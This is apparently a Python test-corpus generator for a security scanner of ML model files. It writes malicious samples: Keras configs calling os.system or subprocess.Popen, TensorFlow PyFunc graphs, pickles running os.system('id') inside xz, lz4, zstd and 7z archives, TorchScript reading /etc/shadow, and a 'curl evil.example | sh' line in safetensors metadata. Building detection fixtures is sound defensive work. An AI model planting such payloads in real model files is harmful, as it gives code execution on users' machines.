#!/usr/bin/env python3
"""Corpus samples for the families issue 24 found missing: Keras 3 config exploits, TensorFlow
file and Python ops, 7z / xz / lz4 / zstd containers, pickle anomalies and embedded payloads.
Standard library only (lz4 and zstd frames and the 7z archive are written by hand, with
uncompressed blocks and the Copy coder). extra_samples.add() calls add(). Nothing here ever
unpickles or loads a malicious artifact.
"""
import base64
import io
import json
import lzma
import struct
import tarfile
import zipfile
import zlib

# Rules whose samples run code when loaded: '--fail-on high' must catch every such sample.
CODE_EXECUTION = "code_execution"


def _call(module, name, arg):
    a = arg.encode()
    return (b"\x80\x02c" + module.encode() + b"\n" + name.encode() + b"\n"
            + b"X" + struct.pack("<I", len(a)) + a + b"\x85R.")


EVIL = _call("os", "system", "id")


def _zip(members, method=zipfile.ZIP_DEFLATED):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as z:
        for name, data in members:
            z.writestr(zipfile.ZipInfo(name, date_time=(2025, 1, 1, 0, 0, 0)), data, compress_type=method)
    return buf.getvalue()


def _torch_zip(payload):
    return _zip([("archive/data.pkl", payload), ("archive/version", "3\n"), ("archive/data/0", b"\x00" * 16)],
                zipfile.ZIP_STORED)


# ---------------------------------------------------------------- Keras 3
def _keras(config, metadata=True):
    members = [("config.json", json.dumps(config))]
    if metadata:
        members = [("metadata.json", json.dumps({"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}))] + members
        members.append(("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\x00" * 56))
    return _zip(members)


def _model(*layers):
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "sequential", "layers": list(layers)},
            "registered_name": None}


def _dense(name, activation="relu"):
    return {"module": "keras.layers", "class_name": "Dense", "config": {"name": name, "units": 4,
            "activation": activation}, "registered_name": None}


def _function(module, name):
    """How Keras 3 serialises a plain function: imported from `module` and called while loading."""
    return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}


_LAMBDA = {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": {
    "class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAAAAAAAAEAAAACAAAAQwAAAHMEAAAAfABTAA==",
                                           "defaults": None, "closure": None}}}, "registered_name": None}


def add_keras(benign, malicious):
    wrapper = {"module": "keras.layers", "class_name": "TorchModuleWrapper", "registered_name": "TorchModuleWrapper",
               "config": {"name": "torch_module_wrapper", "module": base64.b64encode(_torch_zip(EVIL)).decode()}}
    malicious("keras/torch_module_wrapper.keras", _keras(_model(wrapper)), "critical", "keras.torch-module",
              "TorchModuleWrapper whose base64 torch checkpoint calls os.system (CVE-2025-49655)", True)
    malicious("keras/subprocess_activation.keras", _keras(_model(_dense("d", _function("subprocess", "Popen")))),
              "critical", "keras.unsafe-callable", "activation 'function' subprocess.Popen (CVE-2025-1550 pattern)", True)
    malicious("keras/os_system_layer.keras",
              _keras(_model({"module": "os", "class_name": "system", "config": {"name": "x"}, "registered_name": None})),
              "critical", "keras.unsafe-callable", "a layer whose module is os", True)
    malicious("keras/builtins_exec_fn_module.keras",
              _keras(_model({"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
                             "config": {"name": "l", "function": "exec", "fn_module": "builtins",
                                        "function_type": "function"}})),
              "critical", "keras.unsafe-callable", "Lambda whose fn_module is builtins (exec)", True)
    fetch = _function("keras.utils", "get_file")
    malicious("keras/get_file.keras",
              _keras(_model(_dense("d"), {"module": "keras.layers", "class_name": "Activation", "registered_name": None,
                                          "config": {"name": "a", "activation": fetch,
                                                     "origin": "https://evil.example/payload.py"}})),
              "high", "keras.remote-fetch", "keras.utils.get_file in the config (CVE-2025-8747)", False)
    malicious("keras/enable_unsafe_deserialization.keras",
              _keras(_model(_dense("d", _function("keras.config", "enable_unsafe_deserialization")), _LAMBDA)),
              "critical", "keras.safe-mode-bypass", "enable_unsafe_deserialization, then a Lambda (CVE-2025-9906)", True)
    malicious("keras/no_metadata_lambda.keras", _keras(_model(_dense("d"), _LAMBDA), metadata=False), "high",
              "keras.lambda-layer", ".keras with config.json only (no metadata.json) and a Lambda layer", True)
    benign("keras/no_metadata_plain.keras", _keras(_model(_dense("d1"), _dense("d2")), metadata=False),
           ".keras with config.json only: recognised by its content")


# ---------------------------------------------------------------- TensorFlow SavedModel
def _varint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)


def _field(num, data):
    data = data.encode() if isinstance(data, str) else data
    return _varint(num << 3 | 2) + _varint(len(data)) + data


def _node(name, op, inputs=(), const=None):
    body = _field(1, name) + _field(2, op) + b"".join(_field(3, i) for i in inputs)
    if const is not None:
        tensor = _varint(1 << 3) + _varint(7) + _field(8, const)  # dtype DT_STRING, string_val
        body += _field(5, _field(1, "value") + _field(2, _field(8, tensor)))
    return body


def _saved_model(nodes, functions=()):
    graph = b"".join(_field(1, n) for n in nodes)
    if functions:
        library = b"".join(_field(1, _field(1, _field(1, f"f{i}")) + b"".join(_field(3, n) for n in fn))
                           for i, fn in enumerate(functions))
        graph += _field(2, library)
    return _varint(1 << 3) + _varint(1) + _field(2, _field(2, graph))


def add_tensorflow(benign, malicious):
    malicious("tensorflow/pyfunc_stateless/saved_model.pb",
              _saved_model([_node("x", "Placeholder")], functions=[[_node("p", "PyFuncStateless", ["x"])]]),
              "critical", "tensorflow.dangerous-op", "PyFuncStateless inside a function of the library", True)
    malicious("tensorflow/eager_pyfunc/saved_model.pb",
              _saved_model([_node("x", "Placeholder"), _node("p", "EagerPyFunc", ["x"])]),
              "critical", "tensorflow.dangerous-op", "EagerPyFunc", True)
    malicious("tensorflow/matching_files/saved_model.pb",
              _saved_model([_node("pattern", "Const", const="/home/*/.ssh/*"), _node("m", "MatchingFiles", ["pattern"])]),
              "medium", "tensorflow.dangerous-op", "MatchingFiles", False)
    malicious("tensorflow/save_planted_path/saved_model.pb",
              _saved_model([_node("prefix", "Const", const="/etc/cron.d/evil"), _node("t", "Const", const="x"),
                            _node("save", "SaveV2", ["prefix", "t", "t", "t"])]),
              "high", "tensorflow.file-path", "SaveV2 writing to a constant absolute path", False)
    malicious("tensorflow/restore_computed_path/saved_model.pb",
              _saved_model([_node("saver_filename", "Placeholder"), _node("r", "RegexReplace", ["saver_filename"]),
                            _node("restore", "RestoreV2", ["r:output:0", "names", "slices"])]),
              "medium", "tensorflow.file-path", "RestoreV2 whose path is rewritten by RegexReplace", False)
    # What tf.saved_model.save writes: the loader feeds the prefix, the graph only appends to it.
    saver = [_node("saver_filename", "Placeholder"),
             _node("StaticRegexFullMatch", "StaticRegexFullMatch", ["saver_filename"]),
             _node("a", "Const", const=".part"), _node("b", "Const", const="_temp/part"),
             _node("Select", "Select", ["StaticRegexFullMatch", "a", "b"]),
             _node("StringJoin", "StringJoin", ["saver_filename", "Select"]),
             _node("num_shards", "Const"), _node("shard", "Const"),
             _node("ShardedFilename", "ShardedFilename", ["StringJoin", "shard", "num_shards"]),
             _node("SaveV2", "SaveV2", ["ShardedFilename:filename:0", "names", "slices", "^Select"]),
             _node("RestoreV2", "RestoreV2", ["saver_filename", "names", "slices"])]
    benign("tensorflow/saver_graph/saved_model.pb", _saved_model([_node("x", "Placeholder")], functions=[saver]),
           "the save/restore functions tf.saved_model.save writes (paths fed by the loader)")


# ---------------------------------------------------------------- archives
def _lz4_frame(data):
    """LZ4 frame (magic, FLG 0x60 = v1 + independent blocks, BD 0x70 = 4 MiB) of one uncompressed block."""
    flg, bd = 0x60, 0x70
    # Header checksum: byte 1 of xxh32(FLG BD) >> 8; computed with a tiny xxh32.
    hc = (_xxh32(bytes([flg, bd])) >> 8) & 0xFF
    return (b"\x04\x22\x4d\x18" + bytes([flg, bd, hc]) + struct.pack("<I", len(data) | 0x80000000) + data
            + struct.pack("<I", 0))


def _xxh32(data, seed=0):
    p1, p2, p3, p4, p5 = 2654435761, 2246822519, 3266489917, 668265263, 374761393
    m = 0xFFFFFFFF

    def rotl(x, r):
        return ((x << r) | (x >> (32 - r))) & m
    i, n = 0, len(data)
    if n >= 16:
        v = [(seed + p1 + p2) & m, (seed + p2) & m, seed & m, (seed - p1) & m]
        while i + 16 <= n:
            for k in range(4):
                lane = struct.unpack_from("<I", data, i + 4 * k)[0]
                v[k] = (rotl((v[k] + lane * p2) & m, 13) * p1) & m
            i += 16
        h = (rotl(v[0], 1) + rotl(v[1], 7) + rotl(v[2], 12) + rotl(v[3], 18)) & m
    else:
        h = (seed + p5) & m
    h = (h + n) & m
    while i + 4 <= n:
        h = (rotl((h + struct.unpack_from("<I", data, i)[0] * p3) & m, 17) * p4) & m
        i += 4
    while i < n:
        h = (rotl((h + data[i] * p5) & m, 11) * p1) & m
        i += 1
    h ^= h >> 15
    h = (h * p2) & m
    h ^= h >> 13
    h = (h * p3) & m
    h ^= h >> 16
    return h


def _zstd_frame(data):
    """Zstandard frame with a single-segment header and one raw (uncompressed) last block."""
    assert len(data) < (1 << 16) + 256
    if len(data) < 256:  # single segment, FCS in 1 byte, no checksum, no dictionary id
        header = b"\x28\xb5\x2f\xfd" + bytes([0x20, len(data)])
    else:  # single segment, FCS in 2 bytes (value - 256)
        header = b"\x28\xb5\x2f\xfd" + bytes([0x60]) + struct.pack("<H", len(data) - 256)
    block = (len(data) << 3) | (0 << 1) | 1  # raw block, last
    return header + struct.pack("<I", block)[:3] + data


def _7z_number(n):
    assert n < 0x80
    return bytes([n])


def _seven_zip(name, data):
    """A 7z archive with one file stored by the Copy coder, as 7-Zip writes with -mx0."""
    names = name.encode("utf-16-le") + b"\x00\x00"
    header = (b"\x01"                                      # kHeader
              + b"\x04"                                    # kMainStreamsInfo
              + b"\x06" + _7z_number(0) + _7z_number(1)    # kPackInfo: pack pos 0, 1 stream
              + b"\x09" + _7z_varnum(len(data)) + b"\x00"  # kSize, kEnd
              + b"\x07" + b"\x0b" + _7z_number(1) + b"\x00"  # kUnPackInfo, kFolder, 1 folder, not external
              + _7z_number(1) + b"\x01\x00"                # 1 coder: flags (id size 1), id 00 = Copy
              + b"\x0c" + _7z_varnum(len(data)) + b"\x00"  # kCodersUnPackSize, kEnd
              + b"\x08" + b"\x0a\x01" + struct.pack("<I", zlib.crc32(data)) + b"\x00"  # kSubStreamsInfo: CRC
              + b"\x00"                                    # kEnd (streams info)
              + b"\x05" + _7z_number(1)                    # kFilesInfo, 1 file
              + b"\x11" + _7z_varnum(len(names) + 1) + b"\x00" + names  # kName, not external
              + b"\x00"                                    # kEnd (files)
              + b"\x00")                                   # kEnd (header)
    start = struct.pack("<QQI", len(data), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + data + header


def _7z_varnum(n):
    if n < 0x80:
        return bytes([n])
    if n < 0x4000:
        return bytes([0x80 | (n >> 8), n & 0xFF])
    assert n < 0x200000
    return bytes([0xC0 | (n >> 16)]) + struct.pack("<H", n & 0xFFFF)


def _tar(name, data, compression=""):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w" + (":" + compression if compression else "")) as t:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        info.mtime = 0
        t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _safetensors(metadata=None):
    header = {"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}
    if metadata is not None:
        header["__metadata__"] = metadata
    h = json.dumps(header).encode()
    h += b" " * ((8 - len(h) % 8) % 8)
    return struct.pack("<Q", len(h)) + h + struct.pack("<4f", 0, 1, 2, 3)


def add_archives(benign, malicious):
    malicious("archives/pickle.pkl.xz", lzma.compress(EVIL), "critical", "pickle.dangerous-callable", "xz-compressed pickle", True)
    malicious("archives/model_in_tar.tar.xz", _tar("release/model.bin", _torch_zip(EVIL), "xz"), "critical",
              "pickle.dangerous-callable", "torch zip inside tar.xz", True)
    malicious("archives/pickle.pkl.lz4", _lz4_frame(EVIL), "critical", "pickle.dangerous-callable", "LZ4 frame", True)
    malicious("archives/pickle.pkl.zst", _zstd_frame(EVIL), "critical", "pickle.dangerous-callable", "zstd frame", True)
    malicious("archives/model.7z", _seven_zip("model/payload.pkl", EVIL), "critical", "pickle.dangerous-callable",
              "7z archive (Copy coder) holding a pickle", True)
    malicious("archives/tar_in_7z.7z", _seven_zip("bundle.tar", _tar("weights.pt", _torch_zip(EVIL))), "critical",
              "pickle.dangerous-callable", "torch zip in a tar in a 7z", True)
    broken = bytearray(_seven_zip("payload.pkl", EVIL))
    broken[-20:] = b"\xff" * 20
    malicious("archives/corrupt.7z", bytes(broken), "medium", "scan.not-analysed",
              "7z whose header does not decode: not analysed, never passed", False)
    benign("archives/weights.tar.zst", _zstd_frame(_tar("weights.safetensors", _safetensors())),
           "safetensors in a zstd tar")
    benign("archives/weights.7z", _seven_zip("weights.safetensors", _safetensors()), "safetensors in a 7z")
    benign("archives/weights.safetensors.lz4", _lz4_frame(_safetensors()), "safetensors in an LZ4 frame")


# ---------------------------------------------------------------- pickle anomalies
def _short(s):
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def add_pickle_anomalies(benign, malicious):
    # FRAME of 3 bytes, then an 8-byte SHORT_BINUNICODE that runs past its end.
    body = _short("straddle") + b"."
    malicious("anomalies/frame_straddle.pkl", b"\x80\x04\x95" + struct.pack("<Q", 3) + body, "medium", "pickle.anomaly",
              "an opcode straddles the end of its FRAME", False)
    malicious("anomalies/duplicate_proto.pkl", b"\x80\x02]q\x00\x80\x02K\x01a.", "medium", "pickle.anomaly",
              "a second PROTO mid-stream", False)
    malicious("anomalies/self_containing.pkl", b"\x80\x02]q\x00h\x00a.", "medium", "pickle.anomaly",
              "a list that contains itself", False)
    # Billion laughs: each level is a list of ten references to the level below (memo GETs).
    laughs = b"\x80\x02" + _short("lol") + b"q\x00"
    for level in range(1, 11):
        laughs += b"](" + (b"h" + bytes([level - 1])) * 10 + b"eq" + bytes([level])
    laughs += b"."
    malicious("anomalies/billion_laughs.pkl", laughs, "high", "pickle.resource-exhaustion",
              "ten levels of ten shared references: 10^10 values when expanded", False)
    malicious("anomalies/declared_beyond.pkl", b"\x80\x02X" + struct.pack("<I", 0x7FFFFFF0) + b"short.", "high",
              "pickle.resource-exhaustion", "BINUNICODE declares 2 GiB in a 16-byte stream", False)
    # Bytes that start 80 02 but are not a pickle (raw array data): not an embedded payload.
    raw = b"\x80\x02" + bytes(range(40))
    benign("pickle/bytes_like_proto.pkl", b"\x80\x03}q\x00X\x04\x00\x00\x00dataq\x01C" + bytes([len(raw)]) + raw + b"q\x02s.",
           "bytes value that starts like a pickle but is raw data")


# ---------------------------------------------------------------- embedded payloads
def _dict_pickle(key, value_opcodes):
    k = key.encode()
    return b"\x80\x03}q\x00X" + struct.pack("<I", len(k)) + k + value_opcodes + b"s."


def add_embedded(benign, malicious):
    malicious("embedded/pickle_bytes_in_pickle.pkl", _dict_pickle("state", b"B" + struct.pack("<I", len(EVIL)) + EVIL),
              "critical", "embedded.payload", "a pickle stored as bytes inside a pickle", True)
    b64 = base64.b64encode(EVIL)
    malicious("embedded/pickle_base64_in_pickle.pkl", _dict_pickle("state", b"X" + struct.pack("<I", len(b64)) + b64),
              "critical", "embedded.payload", "a pickle stored as base64 text inside a pickle", True)
    hexed = EVIL.hex().encode()
    malicious("embedded/pickle_hex_in_pickle.pkl", _dict_pickle("state", b"X" + struct.pack("<I", len(hexed)) + hexed),
              "critical", "embedded.payload", "a pickle stored as hex text inside a pickle", True)
    malicious("embedded/base64_member.zip", _zip([("README", b"weights follow\n"), ("state.b64", base64.encodebytes(EVIL))]),
              "critical", "embedded.payload", "a zip member holding a base64 pickle", True)
    malicious("embedded/metadata_pickle.safetensors", _safetensors({"format": "pt", "state": base64.b64encode(EVIL).decode()}),
              "critical", "embedded.payload", "a base64 pickle in safetensors __metadata__", True)
    malicious("embedded/metadata_source.safetensors",
              _safetensors({"format": "pt", "hook": "import os\nos.system('curl evil.example | sh')"}), "low",
              "embedded.python-source", "Python source in safetensors __metadata__", False)
    benign("safetensors/metadata_text.safetensors",
           _safetensors({"format": "pt", "description": "A tiny model. Import it with load_file('model.safetensors').",
                         "license": "apache-2.0"}), "ordinary metadata text")


# ---------------------------------------------------------------- TorchScript
def add_torchscript(benign, malicious):
    code = (b"class Model(Module):\n  __parameters__ = []\n"
            b"  def forward(self: __torch__.Model, x: Tensor) -> Tensor:\n"
            b"    secret = ops.aten.from_file(\"/etc/shadow\", None, 4096)\n"
            b"    return torch.add(x, secret)\n")
    archive = _zip([("model/data.pkl", b"\x80\x02}q\x00."), ("model/code/__torch__.py", code),
                    ("model/constants.pkl", b"\x80\x02).") , ("model/version", b"3\n")], zipfile.ZIP_STORED)
    malicious("torchscript/from_file.pt", archive, "high", "torchscript.code",
              "TorchScript code that reads /etc/shadow with aten::from_file", False)


def add(benign, malicious):
    """benign(name, data, note); malicious(name, data, severity, rule, note, code_execution)."""
    add_keras(benign, malicious)
    add_tensorflow(benign, malicious)
    add_archives(benign, malicious)
    add_pickle_anomalies(benign, malicious)
    add_embedded(benign, malicious)
    add_torchscript(benign, malicious)
